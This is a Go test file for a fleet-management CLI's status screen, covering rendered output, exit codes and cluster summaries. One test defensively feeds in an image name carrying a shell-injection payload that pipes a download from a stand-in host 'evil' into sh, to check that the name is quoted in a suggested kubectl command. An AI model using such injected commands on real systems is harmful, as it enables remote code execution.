package status_test

import (
	"fmt"
	"math"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/pelotech/ot-fleet/api/apitest"
	"github.com/pelotech/ot-fleet/api/readapi"
	"github.com/pelotech/ot-fleet/api/v1alpha1"
	"github.com/pelotech/ot-fleet/cli/exit"
	"github.com/pelotech/ot-fleet/cli/render"
	"github.com/pelotech/ot-fleet/cli/render/rendertest"
	"github.com/pelotech/ot-fleet/cli/status"
)

var now = time.Date(2026, 3, 2, 16, 21, 0, 0, time.UTC)

func ago(d time.Duration) *metav1.Time { return ptr.To(metav1.NewTime(now.Add(-d))) }

func member(name string, change func(*v1alpha1.MemberCluster)) v1alpha1.MemberCluster {
	m := v1alpha1.MemberCluster{}
	m.Name, m.CreationTimestamp = name, *ago(72 * time.Hour)
	m.Status.LastReport = ago(3 * time.Second)
	m.Status.Budget, m.Status.SlotsUsed = ptr.To[int32](3), ptr.To[int32](2)
	m.Status.Images = &v1alpha1.MemberImages{Total: 12, Queued: 4, Ready: 6}
	m.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionReady, Status: metav1.ConditionTrue, LastTransitionTime: *ago(time.Hour)}}
	if change != nil {
		change(&m)
	}
	return m
}

func notReady(message string) func(*v1alpha1.MemberCluster) {
	return func(m *v1alpha1.MemberCluster) {
		m.Status.Conditions[0].Status, m.Status.Conditions[0].Message = metav1.ConditionFalse, message
	}
}

func silent(m *v1alpha1.MemberCluster) {
	m.Status.SilentSince = ago(2 * time.Hour)
	m.Status.Transfers = &v1alpha1.MemberTransfers{Held: 1}
}

func failing(m *v1alpha1.MemberCluster) {
	m.Status.Images.Failed = 1
	m.Status.Failing = []v1alpha1.ImageSummary{{Namespace: "vmdi-farm", Name: "centos-5", Reason: "NotFound", Message: `the source answered "404 Not Found": correct spec.url`}}
}

func rollout(name, version string, st v1alpha1.FleetDiskImageStatus) v1alpha1.FleetDiskImage {
	image := apitest.FleetDiskImage(name).WithVersion(version).WithStatus(st).Obj()
	image.Status.ObservedGeneration = image.Generation
	return *image
}

var invalidSchedule = v1alpha1.PruneReport{ObjectMeta: metav1.ObjectMeta{Name: "nightly"}, Spec: v1alpha1.PruneReportSpec{Schedule: "x"}, Status: v1alpha1.PruneReportStatus{
	Phase: v1alpha1.PruneReportScheduled, Reason: v1alpha1.ReasonScheduleInvalid, Message: "spec.schedule is invalid: expected 5 fields. Until then no report is created",
	Conditions: []metav1.Condition{{Type: v1alpha1.ConditionStalled, Status: metav1.ConditionTrue}},
}}

func TestScreens(t *testing.T) {
	burning := status.Snapshot{
		Now: now, Hub: "eu-prod",
		Members: []v1alpha1.MemberCluster{
			member("bergen", nil), member("oslo", nil), member("edge-3", silent), member("lab", failing), member("frankfurt", notReady("the API server does not answer")),
			member("new-1", func(m *v1alpha1.MemberCluster) { m.Status = v1alpha1.MemberClusterStatus{} }),
		},
		Images: []v1alpha1.FleetDiskImage{
			rollout("win-11", "24.2", v1alpha1.FleetDiskImageStatus{
				Phase: v1alpha1.RolloutWaiting, Reason: v1alpha1.ReasonAwaitingApproval, CurrentWave: "production",
				Clusters: v1alpha1.ClusterCounts{Total: 40, Succeeded: 3, ToApply: 37},
			}),
			rollout("ubuntu", "2.1.0", v1alpha1.FleetDiskImageStatus{
				Phase: v1alpha1.RolloutProgressing, Reason: v1alpha1.ReasonMaxConcurrency, CurrentWave: "production", ExpectedAt: ptr.To(metav1.NewTime(now.Add(89 * time.Minute))),
				Clusters: v1alpha1.ClusterCounts{Total: 40, Succeeded: 12, Progressing: 8, ToApply: 20},
			}),
		},
		Reports: []v1alpha1.PruneReport{
			{ObjectMeta: metav1.ObjectMeta{Name: "winter"}, Status: v1alpha1.PruneReportStatus{CompletedAt: ago(90 * 24 * time.Hour), Digest: "1", Candidates: v1alpha1.PruneTotal{Count: 1}}},
			{ObjectMeta: metav1.ObjectMeta{Name: "spring"}, Status: v1alpha1.PruneReportStatus{CompletedAt: ago(6 * time.Hour), Digest: "2", Candidates: v1alpha1.PruneTotal{Count: 112, Bytes: 2858730232218}, Clusters: v1alpha1.AnswerCounts{Unknown: 1}}},
		},
	}
	burning.Summary = &readapi.Summary{
		Policy: readapi.PolicyState{Message: `concurrency: "x" is not a number`},
		Transfers: readapi.TransferSummary{Sources: []readapi.TransferBudget{
			{Name: "eu-bucket", Limit: ptr.To[int64](8), Used: 8, BytesPerSecond: ptr.To[int64](412 << 20), Bytes24h: ptr.To[int64](31 << 38), Trend: readapi.Values{1, 2, math.NaN(), 3}, Waiting: 9, WaitingMembers: 4},
			{Name: "other", Used: 2},
		}},
	}
	rendertest.Golden(t, "burning", now, status.New(burning))
	burning.Summary.Transfers.Fleet = readapi.TransferBudget{Limit: ptr.To[int64](20), Used: 8, Held: ptr.To[int64](12), Reserved: ptr.To[int64](1)}
	rendertest.Golden(t, "fleet-limit", now, status.New(burning))
	for name, only := range map[string]struct{ failing, unknown bool }{"only-failing": {failing: true}, "only-unknown": {unknown: true}, "only-both": {true, true}} {
		listed := burning
		listed.Failing, listed.Unknown = only.failing, only.unknown
		st := status.New(listed)
		rendertest.Golden(t, name, now, st)
		assert.Equal(t, exit.No, st.ExitCode(true), "what is listed does not change it")
	}
	pruned := v1alpha1.ImagePrune{Spec: v1alpha1.ImagePruneSpec{ReportRef: v1alpha1.PruneReportRef{Name: "spring", Digest: "2"}}}
	pruned.Status = v1alpha1.ImagePruneStatus{Targets: v1alpha1.TargetCounts{Pruned: 112}, PrunedBytes: 2858730232218}
	after := status.New(status.Snapshot{Now: now, Reports: burning.Reports, Prunes: []v1alpha1.ImagePrune{pruned}})
	assert.Equal(t, []any{"spring", int32(0), int64(0)}, []any{after.Prunable.Report, after.Prunable.Images, after.Prunable.Bytes}, "it was pruned since")
	unread := status.New(status.Snapshot{Now: now, Reports: burning.Reports, PrunesUnread: "imageprunes is forbidden"})
	page := &render.Page{}
	unread.Draw(page)
	assert.Contains(t, render.Print(page, render.Options{}), "  What was pruned since the report is not left out: imageprunes is forbidden\n")
	burning.Summary, burning.Unread = nil, "From the hub's kinds alone, without its read API: it is not open to you"
	rendertest.Golden(t, "without-read-api", now, status.New(burning))
	rendertest.Golden(t, "empty", now, status.New(status.Snapshot{Now: now, Hub: "eu-prod"}))
	// A hub that lost its members still has its rollouts, and a policy.
	gone := status.Snapshot{Now: now, Hub: "eu-prod", Images: burning.Images, Reports: burning.Reports, Summary: &readapi.Summary{Policy: readapi.PolicyState{Message: `concurrency: "x" is not a number`}}}
	rendertest.Golden(t, "empty-with-rollouts", now, status.New(gone))
	contradicted := status.Snapshot{Now: now, Hub: "eu-prod", Members: []v1alpha1.MemberCluster{member("bergen", nil)}, Summary: &readapi.Summary{
		Policy:    readapi.PolicyState{Accepted: true},
		Attention: readapi.AttentionSummary{Total: 1, Items: []readapi.Attention{{Kind: "ConfigMap", Name: "policy", Reason: "PolicyContradicted", Message: "in force, but not as it says for all members: member bergen: concurrency is set twice"}}},
	}}
	rendertest.Golden(t, "contradicted", now, status.New(contradicted))
	well := status.Snapshot{Now: now, Hub: "eu-prod", Members: []v1alpha1.MemberCluster{member("bergen", nil)}, Images: []v1alpha1.FleetDiskImage{rollout("done", "1", v1alpha1.FleetDiskImageStatus{Phase: v1alpha1.RolloutSucceeded})}}
	rendertest.Golden(t, "well", now, status.New(well))
	well.Reports = []v1alpha1.PruneReport{invalidSchedule}
	rendertest.Golden(t, "invalid-schedule", now, status.New(well))
	well.Reports = nil
	for i := range 40 {
		well.Images = append(well.Images, rollout(fmt.Sprintf("image-%d", i), "1", v1alpha1.FleetDiskImageStatus{Phase: v1alpha1.RolloutProgressing, Reason: v1alpha1.ReasonMaxConcurrency}))
	}
	rendertest.Golden(t, "many-rollouts", now, status.New(well))
	for i := range 5 {
		well.Members = append(well.Members, member(fmt.Sprintf("edge-%d", i), silent))
	}
	rendertest.Golden(t, "many-names", now, status.New(well))
	none := well
	none.Failing = true
	st := status.New(none)
	rendertest.Golden(t, "only-failing-none", now, st)
	assert.Equal(t, exit.Unknown, st.ExitCode(false), "a cluster of which nothing is known may fail")
	assert.Equal(t, "FLEET eu-prod: no cluster fails; 0 rollouts, 0 images failed", st.Summary())
	well.NamesAll = true
	rendertest.Golden(t, "all-names", now, status.New(well))
}

// A member names its images: what a person copies is one word of a shell.
func TestNamesInCommandsAreQuoted(t *testing.T) {
	hostile := member("lab", failing)
	hostile.Status.Failing[0].Name = "x'; curl evil|sh; '"
	st := status.New(status.Snapshot{Now: now, Members: []v1alpha1.MemberCluster{hostile}})
	assert.Equal(t, `kubectl ot why image 'x'\''; curl evil|sh; '\''' -n vmdi-farm --cluster lab`, st.Failed[0].Command)
}

// Right after a publish the status is of the version before: it says nothing of this one.
func TestStatusOfFormerSpecIsNotShown(t *testing.T) {
	published := rollout("ubuntu", "2.1.0", v1alpha1.FleetDiskImageStatus{Phase: v1alpha1.RolloutSucceeded, Reason: v1alpha1.ReasonRolledOut, Clusters: v1alpha1.ClusterCounts{Total: 40, Succeeded: 40}})
	published.Generation++
	st := status.New(status.Snapshot{Now: now, Images: []v1alpha1.FleetDiskImage{published}})
	assert.Equal(t, []status.Rollout{{Name: "ubuntu", Version: "2.1.0"}}, st.Rollouts)
	assert.Zero(t, st.RolloutsDone)
	rendertest.Golden(t, "former-spec", now, st)

	waits := rollout("debian", "1.0.0", v1alpha1.FleetDiskImageStatus{Phase: v1alpha1.RolloutProgressing, Clusters: v1alpha1.ClusterCounts{Total: 2, Deferred: 1}})
	for _, failing := range []bool{false, true} {
		st = status.New(status.Snapshot{Now: now, Images: []v1alpha1.FleetDiskImage{published, waits}, Failing: failing, Unknown: true})
		require.Len(t, st.Rollouts, 1, "which clusters it waits for is not known")
		assert.Equal(t, "debian", st.Rollouts[0].Name)
	}
}

func TestExitCode(t *testing.T) {
	for name, test := range map[string]struct {
		members      []v1alpha1.MemberCluster
		images       []v1alpha1.FleetDiskImage
		reports      []v1alpha1.PruneReport
		summary      *readapi.Summary
		allowUnknown bool
		wantCode     exit.Code
	}{
		"well":    {members: []v1alpha1.MemberCluster{member("a", nil)}},
		"nothing": {},
		"failing": {members: []v1alpha1.MemberCluster{member("a", failing)}, wantCode: exit.No},
		"failing, and not yet counted": {members: []v1alpha1.MemberCluster{member("a", func(m *v1alpha1.MemberCluster) {
			failing(m)
			m.Status.Images.Failed = 0
		})}, wantCode: exit.No},
		"not ready":      {members: []v1alpha1.MemberCluster{member("a", notReady(""))}, wantCode: exit.No},
		"never reported": {members: []v1alpha1.MemberCluster{member("a", func(m *v1alpha1.MemberCluster) { m.Status = v1alpha1.MemberClusterStatus{} })}, wantCode: exit.Unknown},
		"never reported, and a person has to act": {members: []v1alpha1.MemberCluster{member("a", func(m *v1alpha1.MemberCluster) {
			m.Status = v1alpha1.MemberClusterStatus{Conditions: []metav1.Condition{{Type: v1alpha1.ConditionStalled, Status: metav1.ConditionTrue}}}
		})}, allowUnknown: true, wantCode: exit.No},
		"policy not read yet":              {summary: &readapi.Summary{}, wantCode: exit.Unknown},
		"policy not read yet, and allowed": {summary: &readapi.Summary{}, allowUnknown: true},
		"policy refused":                   {summary: &readapi.Summary{Policy: readapi.PolicyState{Message: "ConfigMap is missing"}}, wantCode: exit.No},
		"policy contradicted":              {summary: &readapi.Summary{Policy: readapi.PolicyState{Accepted: true}, Attention: readapi.AttentionSummary{Items: []readapi.Attention{{Kind: "ConfigMap", Name: "policy", Reason: "PolicyContradicted", Message: "in force"}}}}},
		"silent":                           {members: []v1alpha1.MemberCluster{member("a", silent)}, wantCode: exit.Unknown},
		"silent, and allowed":              {members: []v1alpha1.MemberCluster{member("a", silent)}, allowUnknown: true},
		"silent, and one failed":           {members: []v1alpha1.MemberCluster{member("a", silent), member("b", failing)}, wantCode: exit.No},
		"rollout failed":                   {images: []v1alpha1.FleetDiskImage{rollout("a", "1", v1alpha1.FleetDiskImageStatus{Phase: v1alpha1.RolloutFailed})}, wantCode: exit.No},
		"schedule is invalid":              {reports: []v1alpha1.PruneReport{invalidSchedule}, wantCode: exit.No},
		"rollout awaits a person":          {images: []v1alpha1.FleetDiskImage{rollout("a", "1", v1alpha1.FleetDiskImageStatus{Phase: v1alpha1.RolloutWaiting, Reason: v1alpha1.ReasonAwaitingApproval})}},
	} {
		t.Run(name, func(t *testing.T) {
			st := status.New(status.Snapshot{Now: now, Members: test.members, Images: test.images, Reports: test.reports, Summary: test.summary})
			assert.Equal(t, test.wantCode, st.ExitCode(test.allowUnknown))
		})
	}
}

// A silent cluster whose images failed both fails and is unknown.
func TestListedClusters(t *testing.T) {
	both := member("edge-3", func(m *v1alpha1.MemberCluster) { silent(m); failing(m) })
	members := []v1alpha1.MemberCluster{member("bergen", nil), member("edge-7", silent), member("lab", failing), both}
	for name, test := range map[string]struct {
		failing, unknown bool
		want             string
		wantNotListed    [2]int
	}{
		"all":     {want: "FLEET : 1 of 4 clusters ready, 1 failing, 2 silent, 4 of 6 slots of the clusters used, 2 taken in the fleet's budget, 8 queued, 0 of 0 rollouts done, 0 held, 2 images failed"},
		"failing": {failing: true, want: "FLEET : failing: lab; silent: edge-3; 0 rollouts, 2 images failed", wantNotListed: [2]int{0, 1}},
		"unknown": {unknown: true, want: "FLEET : silent: edge-3, edge-7; 0 rollouts, 1 image failed", wantNotListed: [2]int{1, 0}},
		"both":    {failing: true, unknown: true, want: "FLEET : failing: lab; silent: edge-3, edge-7; 0 rollouts, 2 images failed"},
	} {
		t.Run(name, func(t *testing.T) {
			st := status.New(status.Snapshot{Now: now, Members: members, Failing: test.failing, Unknown: test.unknown})
			assert.Equal(t, test.want, st.Summary())
			assert.Equal(t, test.wantNotListed, [2]int{st.FailingNotListed, st.UnknownNotListed})
		})
	}
}
